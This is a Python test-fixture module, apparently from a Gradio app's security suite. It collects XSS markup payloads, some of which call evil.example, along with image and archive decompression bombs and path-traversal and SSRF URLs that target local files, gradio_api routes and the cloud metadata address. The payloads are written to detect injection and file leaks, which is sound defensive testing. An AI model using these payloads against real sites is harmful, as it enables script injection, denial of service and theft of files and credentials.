"""Attacks: markup with scripts, decompression bombs, URLs and paths that would leak files."""

import gzip
import io
import json
import struct
import zipfile
import zlib
from collections.abc import Callable

from PIL import Image

# Markup: each sets window.hacked or requests evil.example if it is executed. ------------------------------------------

RUN = "window.hacked=1"
XSS = (
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC=//evil.example/x.js></SCRIPT>{RUN}",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}'//",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>click</text></a></svg>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video src=x onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<video><source onerror={RUN}></video>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<textarea autofocus onfocus={RUN}></textarea>",
    f"<button autofocus onfocus={RUN}>x</button>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data='javascript:{RUN}'></object>",
    f"<embed src='javascript:{RUN}'>",
    f"<form action='javascript:{RUN}'><input type=submit></form>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    f"<a href='javascript:{RUN}'>click</a>",
    f"<a href=' &#1; javascript:{RUN}'>click</a>",
    f"[click](javascript:{RUN})",
    f"[click](JaVaScRiPt:{RUN})",
    f"[click](data:text/html;base64,PHNjcmlwdD4{RUN})",
    f'![x](x" onerror="{RUN})',
    f"![x](javascript:{RUN})",
    f"<style>@import 'javascript:{RUN}';</style>",
    f"<style>*{{background:url(//evil.example/x)}}</style><p style='x:expression({RUN})'>",
    f"<link rel=stylesheet href=//evil.example/x.css><meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<base href=//evil.example/><img src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<div onpointerenter={RUN} style='position:fixed;inset:0'>x</div>",
    f'<template><script>{RUN}</script></template><noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"```html\n<img src=x onerror={RUN}>\n```\n<img src=x onerror={RUN}>",
    f"$$\\href{{javascript:{RUN}}}{{x}}$$ $\\htmlData{{onclick={RUN}}}{{x}}$",
    f"\u003cimg src=x onerror={RUN}\u003e&lt;img src=x onerror={RUN}&gt;<<img src=x onerror={RUN}>",
)

# Images --------------------------------------------------------------------------------------------------------------


def png(width: int, height: int, *more: tuple[bytes, bytes], colour: int = 2, depth: int = 8) -> bytes:
    """A PNG with this size in its header, further chunks `more`, and few pixels."""
    head = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    chunks = ((b"IHDR", head), *more, (b"IDAT", zlib.compress(b"\0" * 1000)), (b"IEND", b""))
    body = b"".join(struct.pack(">I", len(c)) + t + c + struct.pack(">I", zlib.crc32(t + c)) for t, c in chunks)
    return b"\x89PNG\r\n\x1a\n" + body


def saved(kind: str, side: int = 8, **options: object) -> bytes:
    """A small image of this format."""
    stream = io.BytesIO()
    Image.new("RGB", (side, side)).save(stream, kind, **options)
    return stream.getvalue()


def jpeg(width: int, height: int) -> bytes:
    """A JPEG with this size in its frame header."""
    data = bytearray(saved("JPEG"))
    frame = data.index(b"\xff\xc0")
    data[frame + 5 : frame + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def gif(width: int, height: int) -> bytes:
    """A GIF with a large screen and a large first frame."""
    data = bytearray(saved("GIF"))
    data[6:10] = struct.pack("<HH", width, height)
    frame = data.index(b"\x2c\0\0\0\0", 10)
    data[frame + 5 : frame + 9] = struct.pack("<HH", width, height)
    return bytes(data)


def bmp(width: int, height: int) -> bytes:
    """A BMP with this size in its header."""
    data = bytearray(saved("BMP"))
    data[18:26] = struct.pack("<ii", width, height)
    return bytes(data)


def tiff(width: int, height: int) -> bytes:
    """A TIFF with this size in its directory, as values of 32 bits."""
    data = bytearray(saved("TIFF"))
    for tag, value in ((256, width), (257, height)):  # ImageWidth, ImageLength; 3: 16 bits, 4: 32 bits
        at = max(data.find(struct.pack("<HHI", tag, kind, 1)) for kind in (3, 4))
        data[at : at + 12] = struct.pack("<HHII", tag, 4, 1, value)
    return bytes(data)


def webp(width: int, height: int) -> bytes:
    """A WEBP with this canvas size in its extended header."""
    canvas = b"\x02\0\0\0" + struct.pack("<I", width - 1)[:3] + struct.pack("<I", height - 1)[:3]
    animation = b"ANIM" + struct.pack("<I", 6) + b"\0" * 6
    body = b"WEBPVP8X" + struct.pack("<I", 10) + canvas + animation
    return b"RIFF" + struct.pack("<I", len(body)) + body


def real_png(side: int) -> bytes:
    """A valid PNG: a few hundred kilobytes that decompress to side x side x 3 bytes."""
    rows = zlib.compress(b"\0" * (side * 3 + 1) * side, 9)
    head = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    chunks = ((b"IHDR", head), (b"IDAT", rows), (b"IEND", b""))
    body = b"".join(struct.pack(">I", len(c)) + t + c + struct.pack(">I", zlib.crc32(t + c)) for t, c in chunks)
    return b"\x89PNG\r\n\x1a\n" + body


def zipped() -> bytes:
    """A zip of zeros."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.png", b"\0" * 50_000_000)
    return stream.getvalue()


SVG = b"<svg xmlns='http://www.w3.org/2000/svg'>"
# None of these may be decoded. They are made on demand: all of them take seconds.
BOMBS: dict[str, Callable[[], bytes]] = {
    "png header": lambda: png(60_000, 60_000),
    "png just over": lambda: png(8_001, 8_000),
    "png of real pixels": lambda: real_png(8_100),
    "png line": lambda: png(64_000, 300),
    "png text": lambda: png(9_000, 9_000, (b"zTXt", b"c\0\0" + zlib.compress(b"\0" * 80_000_000))),
    "png profile": lambda: png(20_000, 4_000, (b"iCCP", b"c\0\0" + zlib.compress(b"\0" * 80_000_000))),
    "jpeg header": lambda: jpeg(65_000, 65_000),
    "gif screen": lambda: gif(65_000, 65_000),
    "bmp header": lambda: bmp(100_000, 100_000),
    "webp canvas": lambda: webp(16_383, 16_383),
    "tiff header": lambda: tiff(60_000, 60_000),
    "svg": lambda: gzip.compress(SVG + b"<use href='#a'/>" * 1_000_000 + b"</svg>"),
    "zip": zipped,
}


def bombs() -> dict[str, bytes]:
    """All bombs by kind."""
    return {kind: make() for kind, make in BOMBS.items()}


# Addresses and paths --------------------------------------------------------------------------------------------------


def image_urls(secret: str, canary: str) -> list[str]:
    """Image URLs that point to the file `secret` or to the server `canary`, which records requests."""
    return [
        secret,
        f"file://{secret}",
        f"FILE://{secret}",
        f"file://localhost{secret}",
        f"../../../../../../../..{secret}",
        f"data:image/png,{secret}",
        f"data:image/png;base64,{secret}",
        f"data:image/png;base64,;file={secret}",
        f"data:text/plain;base64,{secret}",
        canary,
        f"{canary}/a.png?x=data:image/png;base64,",
        canary.replace("http://", "HTTP://"),
        canary.replace("http://", "http://user@"),
        canary.replace("127.0.0.1", "localhost"),
        canary.replace("127.0.0.1", "0.0.0.0"),
        canary.replace("127.0.0.1", "2130706433"),
        canary.replace("http:", ""),
        "http://169.254.169.254/latest/meta-data/",
        "ftp://127.0.0.1/a.png",
        "gopher://127.0.0.1:80/_GET",
    ]


def page_paths(secret: str, canary: str) -> list[str]:
    """Paths that would make the page serve `secret` or fetch from `canary`."""
    up = "/.." * 8
    return [
        f"/gradio_api/file={secret}",
        f"/gradio_api/file={up}{secret}",
        f"/gradio_api/file=%2e%2e%2f%2e%2e{secret}",
        f"/gradio_api/file={secret}%00.png",
        f"/gradio_api/file={canary}/a.png",
        f"/gradio_api/file/{secret}",
        f"/gradio_api/proxy={canary}/a.png",
        f"/gradio_api/proxy={canary.replace('http://', 'http:/')}/a.png",
        f"/static{up}{secret}",
        f"/static/..%2f..%2f..%2f..%2f..%2f..%2f..%2f..{secret.replace('/', '%2f')}",
        f"/assets{up}{secret}",
        f"/svelte{up}{secret}",
        f"/theme.css{up}{secret}",
        f"/gradio_api/custom_component/1/component/style{up}{secret}",
        f"/gradio_api/stream/x/1/{up}{secret}/playlist-file",
    ]


def page_files(secret: str, canary: str) -> list[dict[str, object]]:
    """Values of gradio's FileData for files that were not uploaded."""
    meta = {"_type": "gradio.FileData"}
    return [
        {"path": secret, "meta": meta},
        {"path": f"/tmp/gradio/../..{secret}", "meta": meta},
        {"path": f"file://{secret}", "meta": meta},
        {"path": canary, "meta": meta},
        {"path": f"{canary}/a.png", "url": f"{canary}/a.png", "meta": meta},
        {"path": "", "url": f"/gradio_api/file={secret}", "meta": meta},
        {"path": secret, "url": canary, "is_stream": True, "meta": meta},
    ]


def as_json(value: object) -> str:
    """The JSON of a request body."""
    return json.dumps(value)
